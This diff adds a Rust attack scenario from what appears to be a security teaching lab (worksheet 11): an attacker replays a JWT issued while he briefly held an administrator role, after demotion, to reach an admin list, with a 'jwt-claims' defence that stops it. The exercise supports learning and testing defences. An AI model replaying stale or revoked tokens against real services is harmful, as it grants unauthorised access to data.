@@ -1,0 +1,73 @@
+//! Using rights that stand in an old token. Worksheet 11.
+//!
+//! Stopped by `jwt-claims` alone: nothing revokes a token at a demotion. Read
+//! `src/defences/jwt_claims.rs` next.
+
+use super::super::person::Person;
+use super::super::stage::{ATTACKER, Stage, StageError};
+use super::super::{Attack, Card, Engine, Outcome};
+use super::bearer::{answer, sign_in, unexpected, with_token};
+use crate::front_door::caller::Call;
+use crate::policy::Name;
+use async_trait::async_trait;
+
+pub(in crate::attacks) struct StaleRole;
+
+const CARD: Card = Card {
+    name: "stale-role",
+    title: "An administrator after the demotion",
+    engine: Engine::Http,
+    victim: "The portal: an administrator made somebody one, too, and took it back.",
+    means: "The attacker was an administrator for a while and got a token then. After the demotion \
+            he sends it once more.",
+    evidence: "The list for administrators is answered to him.",
+    stopped_by: &[&[Name::JwtClaims]],
+    stopped_says: "His role was looked up, and he is a student.",
+    shows: &["JWT-STALE", "JWT-SCOPE"],
+    standards: &["ASVS 8.3.2", "CWE-613", "CWE-863"],
+};
+
+#[async_trait]
+impl Attack for StaleRole {
+    fn card(&self) -> &'static Card {
+        &CARD
+    }
+
+    async fn run(&self, stage: &Stage) -> Result<Outcome, StageError> {
+        stage.says("An administrator makes the attacker one, too.");
+        let mut admin = stage.person("administrator");
+        admin.sign_in("admin").await?;
+        make(&mut admin, "admin").await?;
+        let mut attacker = stage.person("attacker");
+        let token = sign_in(&mut attacker, ATTACKER).await?.access;
+
+        stage.says("The administrator takes it back.");
+        make(&mut admin, "student").await?;
+
+        stage.says("The attacker sends the token that he got meanwhile.");
+        let reply = attacker
+            .call(with_token("GET", "/jwt/admin", &token))
+            .await?;
+        match reply.status {
+            200 => Ok(Outcome::Succeeded(format!(
+                "The list for administrators was answered to {ATTACKER}: {}",
+                reply.body
+            ))),
+            403 => Ok(Outcome::Stopped(CARD.stopped_says.into())),
+            _ => Err(unexpected("the list", &reply)),
+        }
+    }
+}
+
+/// Gives the attacker's account a role, as the administrator's page would.
+async fn make(admin: &mut Person<'_>, role: &str) -> Result<(), StageError> {
+    let asked = admin.get("/csrf-token").await?;
+    let token = answer("the CSRF token", &asked)?["csrf_token"].clone();
+    let path = format!("/admin/users/{ATTACKER}/role");
+    let mut call = Call::json(path, format!("{{\"role\":\"{role}\"}}"));
+    if let Some(token) = token.as_str() {
+        call = call.with("x-csrftoken", token);
+    }
+    let changed = admin.call(call).await?;
+    answer("the new role", &changed).map(|_| ())
+}
